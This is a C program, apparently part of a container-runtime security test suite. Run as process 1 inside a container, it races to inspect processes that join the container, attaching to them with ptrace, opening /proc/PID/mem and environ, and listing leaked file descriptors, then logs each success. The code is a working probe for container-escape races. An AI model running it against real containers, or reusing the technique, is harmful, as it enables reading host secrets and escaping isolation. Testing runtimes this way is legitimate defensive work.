/*
 * Process 1 of a container that catches whoever joins it: it waits for the next process number at full speed and tries what
 * ptrace(2) decides about, until the process has become the container's own program, which is this one. Each success is
 * a line in the file that is named. Statically linked, needs nothing around it but /proc.
 *
 *   attacker race FILE    process 1
 *   attacker nothing      the command that joins
 *   attacker wait         a command that stays
 *   attacker nested       process 1, which goes into a user namespace of its own that denies the choice of groups
 *   attacker groups       tells how many further groups it has
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* How many numbers are looked at beyond the last that was met. */
enum { AHEAD = 4 };

static int told = -1;
static struct stat own_program, own_root;

static void tell(const char *format, ...)
{
    char line[512];
    va_list arguments;
    va_start(arguments, format);
    int length = vsnprintf(line, sizeof line, format, arguments);
    va_end(arguments);
    if (length > 0 && write(told, line, (size_t)length) != length)
        _exit(1);
}

static const char *of(int id, const char *name)
{
    static char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", id, name);
    return path;
}

static int is_same(const struct stat *one, const struct stat *other)
{
    return one->st_dev == other->st_dev && one->st_ino == other->st_ino;
}

/* Whether the process can be looked into and is not the container's program yet. */
static int is_foreign(int id)
{
    struct stat program;
    return stat(of(id, "exe"), &program) == 0 && !is_same(&program, &own_program);
}

/* Descriptors from 3 on that are neither the folder which is listed nor, as the last thing to go, a socket. */
static void list(int id, const char *how)
{
    DIR *folder = opendir(of(id, "fd"));
    struct dirent *entry;
    while (folder && (entry = readdir(folder))) {
        char path[320], target[256];
        if (atoi(entry->d_name) < 3)
            continue;
        snprintf(path, sizeof path, "/proc/%d/fd/%s", id, entry->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0)
            continue;
        target[length] = 0;
        if (strncmp(target, "socket:", 7))
            tell("descriptor %s %s\n", how, target);
    }
    if (folder)
        closedir(folder);
}

static void look(int id)
{
    struct stat root;
    if (is_foreign(id))
        tell("exe\n");
    if (stat(of(id, "root/"), &root) == 0 && !is_same(&root, &own_root))
        tell("root\n");
    int memory = open(of(id, "mem"), O_RDWR | O_CLOEXEC);
    /* Opened before: what is shown now was shown then. */
    if (memory >= 0 && is_foreign(id))
        tell("mem\n");
    if (memory >= 0)
        close(memory);
    int variables = open(of(id, "environ"), O_RDONLY | O_CLOEXEC);
    if (variables >= 0 && is_foreign(id))
        tell("environ\n");
    if (variables >= 0)
        close(variables);
    list(id, "seen");
}

static void seize(int id)
{
    if (ptrace(PTRACE_SEIZE, id, NULL, NULL) != 0)
        return;
    int status;
    ptrace(PTRACE_INTERRUPT, id, NULL, NULL);
    if (waitpid(id, &status, __WALL) == id && WIFSTOPPED(status)) {
        if (is_foreign(id))
            tell("seized\n");
        list(id, "seized");
        ptrace(PTRACE_DETACH, id, NULL, NULL);
    }
}

static int exists(int id)
{
    return kill(id, 0) == 0 || errno == EPERM;
}

static int put(const char *path, const char *text)
{
    int file = open(path, O_WRONLY | O_CLOEXEC);
    return file < 0 || write(file, text, strlen(text)) < 0 || close(file);
}

int main(int argc, char **argv)
{
    if (argc == 2 && !strcmp(argv[1], "groups"))
        return printf("%d\n", getgroups(0, NULL)) < 0;
    if (argc == 2 && !strcmp(argv[1], "nested")) {
        if (unshare(CLONE_NEWUSER) || put("/proc/self/setgroups", "deny") || put("/proc/self/uid_map", "0 0 1")
            || put("/proc/self/gid_map", "0 0 1"))
            return 1;
        pause();
    }
    if (argc == 2 && !strcmp(argv[1], "wait"))
        pause();
    if (argc < 3 || strcmp(argv[1], "race"))
        return 0;
    told = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
    if (told < 0 || stat("/proc/self/exe", &own_program) || stat("/", &own_root))
        return 1;
    tell("begun\n");
    for (int last = getpid();;) {
        for (int id = last + 1; id <= last + AHEAD; id++) {
            if (!exists(id))
                continue;
            /* What is seized stands still, so only every second one is. */
            for (int is_first = 1; exists(id); is_first = 0) {
                if (id % 2 || !is_first)
                    look(id);
                if (id % 2 == 0)
                    seize(id);
                while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
                    ;
            }
            last = id;
            break;
        }
    }
}
